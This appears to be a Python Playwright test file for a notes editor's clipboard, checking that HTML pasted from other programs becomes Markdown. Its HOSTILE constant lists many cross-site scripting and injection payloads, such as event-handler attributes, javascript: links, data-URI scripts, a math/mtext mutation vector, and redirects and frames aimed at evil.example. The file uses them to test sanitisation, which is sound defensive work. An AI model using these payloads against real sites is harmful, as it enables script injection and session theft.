"""Tests of the clipboard of a note's text: documents of other programs become Markdown, and Markdown is copied as HTML."""

import os

from playwright.sync_api import expect

from support.instance import CHECKOUT
from support.notes_editor import EditorCase

SOURCES = os.path.join(CHECKOUT, "Tests/Web/pasting")
PASTE = """(element, types) => {
    const clipboardData = new DataTransfer();
    for (const [type, text] of Object.entries(types)) clipboardData.setData(type, text);
    const form = { clipboardData, bubbles: true, cancelable: true, composed: true };
    element.dispatchEvent(new ClipboardEvent("paste", form));
}"""
# Whatever of this ran, was fetched or was reported as a violation of the policy would fail the test.
HOSTILE = """
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>
<script>alert(1)</script><svg onload="alert(2)"><script>alert(3)</script><image href="https://evil.example/c.png" /></svg>
<p onclick="alert(4)" style="color: red; background: url(https://evil.example/d.png)"ONMOUSEOVER=alert(5)>
<img src="x" onerror='alert(6)'><img src="data:image/svg+xml,<svg onload=alert(7)>" alt="no"><b/onfocus=alert(8)>bold</b>
<a href="javascript:alert(9)">script</a> <a href=" java&#10;script:alert(10)">again</a>
<a href="vbscript:x">old</a> <a href="data:text/html,<script>alert(11)</script>">data</a> <a href="page">web</a>
<iframe src="https://evil.example/e"></iframe><object data="https://evil.example/f"></object>
<form action="https://evil.example/g"><input name="q" value="typed" autofocus onfocus="alert(12)"><button>Send</button>
</form><video src="https://evil.example/h" poster="https://evil.example/i"></video><!-- <b>hidden</b> -->
<template><p>hidden</p></template><math><mtext><img src=x onerror=alert(13)></mtext></math>
<table background="https://evil.example/j"><tr><td colspan=99999999 rowspan=99999999>cell<td>two <tr><td>three
<p>&lt;img src=x onerror=alert(14)> <ul><li>unclosed <b>item<li a="b
"""
HOSTILE_TEXT = """**bold** script again old data [web](https://evil.example/page)
"""


class NotesClipboardTests(EditorCase):
    def paste(self, editor, html, plain="plain", **more):
        editor.body().evaluate(PASTE, {"text/plain": plain, "text/html": html, **more})

    def notice(self, editor, action="Paste as plain text"):
        return editor.page.locator(".notices").get_by_role("button", name=action).last

    def test_documents_of_other_programs_become_markdown(self):
        """documents of twelve programs are pasted as Markdown, by both parsers of browsers; hostile ones do no harm"""
        editor = self.editor("")
        editor.body().click()
        for name in sorted({name.rsplit(".", 1)[0] for name in os.listdir(SOURCES)}):
            with self.subTest(name):
                source, expected = (self.source(f"{name}.{kind}") for kind in ("html", "md"))
                editor.page.keyboard.press("Control+a")
                self.paste(editor, source)
                self.awaits(editor, expected.removesuffix("\n"))
        editor.page.keyboard.press("Control+a")
        self.paste(editor, HOSTILE)
        self.until(lambda: "web" in editor.saved()["body"])
        print(editor.saved()["body"])

    @staticmethod
    def source(name):
        with open(os.path.join(SOURCES, name), encoding="utf-8") as file:
            return file.read()
